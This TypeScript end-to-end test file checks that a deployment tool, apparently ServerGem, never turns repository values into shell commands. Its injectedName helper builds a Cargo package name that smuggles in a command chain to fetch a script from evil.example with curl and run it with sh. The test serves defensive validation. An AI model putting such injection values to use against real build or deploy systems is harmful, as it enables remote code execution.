import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deployOverSocket, dropSchema, getText, TEST_DATABASE_URL } from '#testing';
import { analyzeSource } from '../../apps/analyzer/src/detect/analyze.js';
import { lintDockerfile } from '../../apps/builder/src/dockerfile/dockerfile-policy.js';
import { planBuild } from '../../apps/builder/src/dockerfile/generate.js';
import { startAllInOne, type AllInOne } from '../../apps/cli/src/all-in-one.js';
import { removeInstallation } from './stop-local-apps.js';

/**
 * The injected Cargo package name, pointed at this test's own folder instead of /tmp: if
 * any part of it ran as shell, `touch` would leave a marker and `curl -o` a downloaded file.
 */
function injectedName(work: string): string {
  return `app && touch ${join(work, 'pwned')} && curl -o ${join(work, 'x')} https://evil.example/x && sh ${join(work, 'x')}`;
}

describe('values from a repository never become shell, in the Dockerfile and on the local target', () => {
  const schema = `e2e_inj_${randomBytes(4).toString('hex')}`;
  const savedHome = process.env.SERVERGEM_HOME;
  let home: string;
  let work: string;
  let sut: AllInOne;

  const write = (name: string, files: Record<string, string>) => {
    const dir = join(work, name);
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), text);
    }
    return dir;
  };
  const nothingRan = () => {
    expect(existsSync(join(work, 'pwned'))).toBe(false);
    expect(existsSync(join(work, 'x'))).toBe(false);
  };

  beforeAll(async () => {
    home = mkdtempSync(join(tmpdir(), 'servergem-inj-'));
    work = mkdtempSync(join(tmpdir(), 'servergem-inj-src-'));
    process.env.SERVERGEM_HOME = home;
    sut = await startAllInOne(
      {
        PATH: process.env.PATH,
        HOME: process.env.HOME,
        SERVERGEM_HOME: home,
        PORT: '0',
        DATABASE_URL: TEST_DATABASE_URL,
        DATABASE_SCHEMA: schema,
        APP_START_TIMEOUT_SECONDS: '20',
      },
      () => undefined,
    );
  });

  afterAll(async () => {
    await sut?.stop();
    await removeInstallation(home);
    if (savedHome === undefined) delete process.env.SERVERGEM_HOME;
    else process.env.SERVERGEM_HOME = savedHome;
    rmSync(work, { recursive: true, force: true });
    await dropSchema(schema);
  });

  it('refuses the injected Cargo name in the report, keeps it out of the Dockerfile, and runs none of it on local', { timeout: 120_000 }, async () => {
    const name = injectedName(work);
    const only = write('inj-only', { 'Cargo.toml': `[package]\nname = "${name}"\nversion = "0.1.0"\n`, 'src/main.rs': 'fn main() {}\n' });

    const report = await analyzeSource(only);
    expect(report.warnings[0]).toMatch(
      /^The Cargo package or binary name "app && touch \S+ && curl .*" in Cargo\.toml is not valid \(\[a-zA-Z0-9_-\]\+\); ServerGem refused it and put it into no command\.$/,
    );
    expect(report.commands).toEqual({ install: ['cargo fetch'], build: [], start: null });
    // No Dockerfile at all: nothing to start, and the refusal is the hint.
    expect(() => planBuild(report)).toThrow('ServerGem found no way to start this app.');

    const deployed = await deployOverSocket(sut, { repoUrl: only });
    expect(deployed.complete).toBeUndefined();
    expect(deployed.error).toMatchObject({ code: 'UNSUPPORTED_APP', hint: report.warnings[0] });
    nothingRan();

    // With a valid binary beside it, the Dockerfile builds that one and holds no trace of the name.
    const withServer = write('inj-server', {
      'Cargo.toml': `[package]\nname = "${name}"\nversion = "0.1.0"\n`,
      'src/main.rs': 'fn main() {}\n',
      'src/bin/server.rs': 'fn main() {}\n',
    });
    const second = await analyzeSource(withServer);
    const plan = planBuild(second);
    expect(plan.dockerfile).toContain('cargo build --release --bin server && mkdir -p bin && cp target/release/server bin/');
    for (const trace of ['evil.example', 'touch', '&& sh', work]) expect(plan.dockerfile).not.toContain(trace);
    expect(lintDockerfile(plan.dockerfile, { port: 8080, strict: true })).toEqual([]);

    // On local, the name reaches only Cargo.toml, and cargo refuses it as a package name: the build fails, nothing runs.
    const built = await deployOverSocket(sut, { repoUrl: withServer });
    expect(built.complete).toBeUndefined();
    expect(built.error?.code).toMatch(/^(BUILD_FAILED|TOOLCHAIN_MISSING)$/);
    expect(built.error?.message).toContain('cargo');
    nothingRan();
    expect(readdirSync(work).sort()).toEqual(['inj-only', 'inj-server']);
  });

  it("runs a Procfile's own shell on local as the Dockerfile's sh -c does", { timeout: 120_000 }, async () => {
    const app = write(`procfile-${randomBytes(3).toString('hex')}`, {
      'package.json': JSON.stringify({ name: 'procfile-app', version: '1.0.0' }),
      Procfile: 'web: node migrate.js --label="first run" && node server.js\n',
      'migrate.js': "require('fs').writeFileSync('migrated.txt', process.argv[2]);\n",
      'server.js':
        "const label = require('fs').readFileSync('migrated.txt', 'utf8');\nrequire('http').createServer((q, s) => s.end(`migrated: ${label}`)).listen(process.env.PORT);\n",
    });
    const report = await analyzeSource(app);
    expect(planBuild(report).dockerfile).toContain('CMD ["sh","-c","node migrate.js --label=\\"first run\\" && node server.js"]');

    const deployed = await deployOverSocket(sut, { repoUrl: app });
    expect(deployed.error).toBeUndefined();
    expect((await getText(deployed.complete!.url)).body).toBe('migrated: --label=first run');
  });
});
